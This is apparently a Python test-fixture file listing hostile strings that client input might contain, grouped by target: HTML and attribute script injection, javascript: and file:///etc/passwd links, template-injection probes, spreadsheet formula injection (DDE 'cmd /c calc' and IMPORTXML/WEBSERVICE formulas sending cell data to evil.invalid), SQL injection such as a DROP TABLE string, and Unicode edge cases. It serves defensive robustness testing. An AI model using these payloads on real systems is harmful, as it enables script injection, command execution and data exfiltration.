"""Text that clients may write and that no page, file or spreadsheet may be taken over or broken by.

All of it is text that Postgres stores (no NUL, no halves of character pairs). In groups by what it attacks; `HOSTILE`
is all of it.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "</script><script>alert(1)//", "</td></tr></table><iframe src=javascript:alert(1)>", "<!--", "-->",
    "<!-- <script>", "]]>", "<![CDATA[x]]>", "</style><style>*{display:none}", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">come</a>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>", "<base href=//evil.invalid/>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>", "&lt;b&gt;", "&#60;b>", "&amp;amp;", "&", "<",
    ">", "<r><t>rich</t></r>", '<r></is></c><c r="Z9"><f>1+1</f></c><c><is></r>',
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) `",
    '"><script>alert(1)</script>', "'-alert(1)-'", '";alert(1);//', "\\';alert(1);//", '"', "'", "`", "\\", "\\\\",
    "\\u003cscript\\u003e", "\\x3cscript",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "https://evil.invalid/?a=1&b=2", "internal:Sheet1!A1", "external:c:\\calc.exe",
    "//evil.invalid", "mailto:x@evil.invalid?subject=hi", "file:///etc/passwd", "ftp://evil.invalid/x",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{# note #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n", "{0}", "{}", "{tenant}", "$1", "\\1", "[[x]]", "{{", "}}",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.invalid\",\"come\")", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "\r\n=1+1", "=", "+", "-", "@", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "   =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x01=1+1", '"=1+1', "'=1+1", "''=1+1", '"",=1+1', "a;=1+1", 'a";"=1+1',
    "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1)", "a;'=1+1", "+79161234567", "-5", "=1+1;=2+2",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.invalid/?v=\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.invalid\")", "{=1+1}",
    "{=SUM(1)}", "=1+1\x02", "%0A=1+1", "=2+5+cmd|' /C calc'!A0", "sep=;", "ID;PSWXL;N;E", "1;2;3", "1,2,3",
    "_x003D_1+1", "_x0041_", "_x000D_", "\u2212 5", "\ufe66" + "1+1",
)  # fmt: skip
QUOTES = (
    'She said "yes"', "it's", "a,b", "a;b", "a|b", "a\tb", "a\nb", "a\r\nb", "a\rb", "\n", "\t", '"\n"', '","', "';'",
    ",,,", " leading", "trailing ", "  ", "\\N", "\\n", "NULL", "null", "None", "nan", "NaN", "NaT", "undefined",
    "true", "#N/A", "#REF!", "0", "007", "1e5", "1E400", "0x10", "1/2", "3-4", "2026-01-31", "31.01.2026", "12:30",
    "79161234567890123456",
)  # fmt: skip
STATEMENTS = (
    "'; drop table clients_v2; --", "' or 1=1 --", "$$; select 1; $$", "%", "_", "%_\\", "*", "/* */", "--",
    "; rollback;", "\\.", "COPY x FROM STDIN", "::text", "E'\\\\x'",
)  # fmt: skip
LETTERS = (
    "\u2028", "\u2029", "a\u2028b\u2029c", "\u202egnp.exe\u202c", "\u2066ltr\u2069", "\u200b", "\u200d",
    "\u200e\u200f", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\U0001ffff", "a\u0301\u0323\u0308",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 20, "👩‍👩‍👧‍👦", "🦄", "🇷🇺", "👍🏿", "ﷺ", "İıŞşÇ", "ẞß", "ＡＢＣ",
    "Ёлка ёж", "日本語", "العربية", "עברית", "नमस्ते", "\U000e0041", "\x01\x02\x1b[31mred\x07\x08", "\x7f\x80\x85\x9f",
    "a\x0bb\x0cc", "\x1e\x1f", "\xad", "\u3164", "\u034f", "ﬁ",
)  # fmt: skip
LONG = (
    "x" * 40_000, "ы" * 40_000, "🦄" * 20_000, "=" * 40_000, "<b>" * 12_000, "a " * 20_000, "слово\n- " * 6_000,
    "W" * 3_000,
)  # fmt: skip
EMPTY = ("", " ", "\u00a0")

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys((*MARKUP, *ATTRIBUTES, *LINKS, *TEMPLATES, *FORMULAS, *QUOTES, *STATEMENTS, *LETTERS, *LONG, *EMPTY))
)
"""Every string once, in order."""
